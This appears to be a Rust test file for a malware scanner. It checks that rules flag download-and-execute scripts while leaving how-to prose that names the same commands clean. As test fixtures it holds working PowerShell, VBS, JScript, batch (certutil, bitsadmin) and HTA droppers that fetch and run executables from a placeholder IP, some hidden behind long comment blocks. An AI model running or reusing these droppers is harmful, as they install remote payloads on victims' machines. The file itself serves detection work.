//! The script rules fire on scripts, not on prose that quotes them: the
//! engine tells the rules each object's true type (`xferscan_type`,
//! `xferscan_group`) and the built-in script rules apply to scripts and to
//! the script text of pages only.

use crate::util::*;
use xferscan::{Engine, Verdict};

/// A PowerShell download cradle, as droppers write it.
const CRADLE: &str = "$u = 'http://203.0.113.7/a.exe'\r\n\
    $p = \"$env:TEMP\\a.exe\"\r\n\
    Invoke-WebRequest -Uri $u -OutFile $p\r\n\
    Start-Process $p\r\n";

/// A how-to in prose that names the same commands.
const HOWTO: &str = "How to update the build agent\n\n\
    1. Open a PowerShell window as administrator.\n\
    2. Download the installer with Invoke-WebRequest (give it the URL from the wiki\n   and -OutFile agent.msi).\n\
    3. Run it with Start-Process, passing /quiet, and wait for it to finish.\n\
    4. If Invoke-Expression is blocked by policy, ask IT; do not use Net.WebClient.\n\n\
    Questions: ask in #build.\n";

fn rule_matched(r: &xferscan::Report, rule: &str) -> bool {
    r.matched(rule)
}

#[test]
fn a_how_to_in_prose_is_clean_as_text_markdown_and_html() {
    let r = scan("howto.txt", HOWTO.as_bytes().to_vec());
    assert!(
        !rule_matched(&r, "PowerShell_Download_Cradle"),
        "{:?}",
        keys(&r)
    );
    assert_clean(&r);
    let md = format!(
        "# Updating the agent\n\n{HOWTO}\nFor example: `Invoke-WebRequest $url -OutFile a.msi; Start-Process a.msi`\n"
    );
    let r = scan("howto.md", md.into_bytes());
    assert!(
        !rule_matched(&r, "PowerShell_Download_Cradle"),
        "{:?}",
        keys(&r)
    );
    assert_clean(&r);
    let html = format!(
        "<!DOCTYPE html><html><head><title>Agent</title></head><body><pre>{}</pre>\
         <p>Then run <code>Invoke-WebRequest $u -OutFile $p; Start-Process $p</code>.</p></body></html>",
        CRADLE
    );
    let r = scan("howto.html", html.into_bytes());
    assert!(
        !rule_matched(&r, "PowerShell_Download_Cradle"),
        "{:?}",
        keys(&r)
    );
    assert_clean(&r);
}

#[test]
fn a_how_to_quoting_a_vbs_downloader_in_a_docx_like_xml_is_clean() {
    let xml = "<?xml version=\"1.0\"?><w:document xmlns:w=\"urn:x\"><w:body><w:p><w:t>\
        Old scripts did Set x = CreateObject(\"MSXML2.XMLHTTP\") and saved with ADODB.Stream, \
        then ran it through WScript.Shell. Do not do that.</w:t></w:p></w:body></w:document>";
    let r = scan("notes.xml", xml.as_bytes().to_vec());
    assert!(!rule_matched(&r, "VBS_Downloader"), "{:?}", keys(&r));
    assert_clean(&r);
}

#[test]
fn a_real_cradle_vbs_and_batch_dropper_are_still_blocked() {
    let r = scan("update.ps1", CRADLE.as_bytes().to_vec());
    assert!(
        rule_matched(&r, "PowerShell_Download_Cradle"),
        "{:?}",
        keys(&r)
    );
    // The same bytes by content alone, without a telling name.
    let r = scan("update", CRADLE.as_bytes().to_vec());
    assert!(
        rule_matched(&r, "PowerShell_Download_Cradle"),
        "{:?}",
        keys(&r)
    );
    let vbs = "Dim o, s\r\nSet o = CreateObject(\"MSXML2.XMLHTTP\")\r\n\
        o.Open \"GET\", \"http://203.0.113.7/p.exe\", False\r\no.Send\r\n\
        Set s = CreateObject(\"ADODB.Stream\")\r\ns.Open\r\ns.Type = 1\r\n\
        s.Write o.responseBody\r\ns.SaveToFile \"p.exe\", 2\r\n\
        CreateObject(\"WScript.Shell\").Run \"p.exe\"\r\n";
    let r = scan("invoice.vbs", vbs.as_bytes().to_vec());
    assert!(rule_matched(&r, "VBS_Downloader"), "{:?}", keys(&r));
    let bat = "@echo off\r\ncertutil -urlcache -split -f http://203.0.113.7/p.exe %TEMP%\\p.exe\r\n\
        start \"\" %TEMP%\\p.exe\r\n";
    let r = scan("run.bat", bat.as_bytes().to_vec());
    assert!(rule_matched(&r, "Batch_Dropper"), "{:?}", keys(&r));
}

#[test]
fn the_cradle_in_a_page_script_or_an_hta_is_caught() {
    let page = format!(
        "<!DOCTYPE html><html><body><p>Loading</p><script type=\"text/x-ps\">{CRADLE}</script></body></html>"
    );
    let r = scan("page.html", page.into_bytes());
    assert!(
        rule_matched(&r, "PowerShell_Download_Cradle"),
        "{:?}",
        keys(&r)
    );
    assert_eq!(r.verdict, Verdict::Malicious);
    let script_obj = r
        .objects
        .iter()
        .find(|o| o.path.to_string().contains("<script #1"))
        .expect("the script element is an object");
    assert_eq!(script_obj.types[0].ty.name(), "javascript");
    let hta = "<html><head><hta:application id=\"x\"/></head><body><script language=\"VBScript\">\r\n\
        Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"powershell -w hidden -c calc\"\r\n</script></body></html>";
    let r = scan("x.hta", hta.as_bytes().to_vec());
    assert!(rule_matched(&r, "HTA_Shell_Launcher"), "{:?}", keys(&r));
}

/// Users' rules see the variables too.
#[test]
fn user_rules_can_condition_on_the_type() {
    let e = Engine::builder()
        .default_rules(false)
        .rules_source(
            "mine.yar",
            "rule Text_Only { condition: xferscan_group == \"text\" and xferscan_type == \"text\" }\n\
             rule Scripts_Only { condition: xferscan_group == \"windows_script\" }",
        )
        .build()
        .unwrap();
    let r = e.scan_bytes("a.txt", b"just words".to_vec());
    assert!(r.matched("Text_Only") && !r.matched("Scripts_Only"));
    let r = e.scan_bytes("a.ps1", b"Write-Host hi".to_vec());
    assert!(!r.matched("Text_Only") && r.matched("Scripts_Only"));
}

/// `n` lines of a comment in the style `line` makes of each number.
fn lines(n: usize, line: impl Fn(usize) -> String) -> String {
    (0..n).map(line).collect()
}

#[test]
fn a_script_behind_4_kib_of_comments_is_matched_under_any_name() {
    let js = "var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'http://203.0.113.7/a', false);\n\
        x.send(); var s = new ActiveXObject('ADODB.Stream'); s.open(); s.write(x.responseBody);\n\
        s.saveToFile('a.exe', 2); new ActiveXObject('WScript.Shell').run('a.exe');\n";
    let vbs = "Set o = CreateObject(\"MSXML2.XMLHTTP\")\r\no.Open \"GET\", \"http://203.0.113.7/p.exe\", False\r\n\
        o.Send\r\nSet s = CreateObject(\"ADODB.Stream\")\r\ns.Open\r\ns.Type = 1\r\n\
        s.Write o.responseBody\r\ns.SaveToFile \"p.exe\", 2\r\n";
    let bat = "@echo off\r\nbitsadmin /transfer job http://203.0.113.7/p.exe %TEMP%\\p.exe\r\n";
    let note = |i| format!("note {i} on how the deployment tool is configured and run\n");
    let cases: Vec<(&str, String, &str)> = vec![
        (
            "# lines",
            lines(120, |i| format!("# {}", note(i))) + CRADLE,
            "PowerShell_Download_Cradle",
        ),
        (
            "<# #>",
            format!("<#\n{}#>\n{CRADLE}", lines(120, note)),
            "PowerShell_Download_Cradle",
        ),
        (
            "here-string",
            format!("$help = @'\n{}'@\n{CRADLE}", lines(120, note)),
            "PowerShell_Download_Cradle",
        ),
        (
            "blank lines",
            "\n".repeat(6000) + CRADLE,
            "PowerShell_Download_Cradle",
        ),
        (
            "// lines",
            lines(120, |i| format!("// {}", note(i))) + js,
            "JScript_Downloader",
        ),
        (
            "/* */",
            format!("/*\n{}*/\n{js}", lines(120, note)),
            "JScript_Downloader",
        ),
        (
            "' lines",
            lines(120, |i| format!("' {}", note(i))) + vbs,
            "VBS_Downloader",
        ),
        (
            "Rem lines",
            lines(120, |i| format!("Rem {}", note(i))) + vbs,
            "VBS_Downloader",
        ),
        (
            ":: lines",
            lines(120, |i| format!(":: {}", note(i))) + bat,
            "Batch_Dropper",
        ),
    ];
    for (how, script, rule) in cases {
        assert!(script.len() > 5000, "{how}");
        let r = scan("notes.txt", script.into_bytes());
        assert!(rule_matched(&r, rule), "{how}: {:?}", keys(&r));
        assert_ne!(r.verdict, Verdict::Clean, "{how}");
    }
}

#[test]
fn text_behind_comments_is_still_text() {
    // A configuration file with a long commented header, then settings.
    let conf = lines(150, |i| {
        format!("# option {i}: what it does, and its default value\n")
    }) + "Port 22\nPermitRootLogin no\nPasswordAuthentication no\nSubsystem sftp internal-sftp\n";
    assert_clean(&scan("sshd_config", conf.into_bytes()));
    // Markdown whose headings start lines with `#`, then the how-to.
    let md = lines(80, |i| format!("# Section {i}\n\n")) + HOWTO;
    let r = scan("agent.txt", md.into_bytes());
    assert!(
        !rule_matched(&r, "PowerShell_Download_Cradle"),
        "{:?}",
        keys(&r)
    );
    assert_clean(&r);
    // Nothing but comments.
    let only = lines(200, |i| format!("// {i} nothing follows\n"));
    assert_clean(&scan("empty.js.txt", only.into_bytes()));
}

#[test]
fn a_wsh_downloader_without_dim_or_sub_is_a_script_by_content() {
    let vbs = "Set o = CreateObject(\"MSXML2.XMLHTTP\")\r\no.Open \"GET\", \"http://203.0.113.7/p.exe\", False\r\n\
        o.Send\r\nSet s = CreateObject(\"ADODB.Stream\")\r\ns.Open\r\ns.Type = 1\r\n\
        s.Write o.responseBody\r\ns.SaveToFile \"p.exe\", 2\r\n\
        CreateObject(\"WScript.Shell\").Run \"p.exe\"\r\n";
    let r = scan("readme.txt", vbs.as_bytes().to_vec());
    assert!(rule_matched(&r, "VBS_Downloader"), "{:?}", keys(&r));
    let js = "var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'http://203.0.113.7/a', false);\n\
        x.send(); var s = new ActiveXObject('ADODB.Stream');\n";
    let r = scan("readme.txt", js.as_bytes().to_vec());
    assert!(rule_matched(&r, "JScript_Downloader"), "{:?}", keys(&r));
    // Control: prose that names the same objects.
    let prose = "Why our old installer was flagged\n\n\
        The old installer used CreateObject with MSXML2.XMLHTTP to fetch the update and then\n\
        saved it with ADODB.Stream before it ran the file through WScript.Shell on every machine.\n\
        We replaced all of that with the signed package that the software center hands out now.\n";
    assert_clean(&scan("postmortem.txt", prose.as_bytes().to_vec()));
}
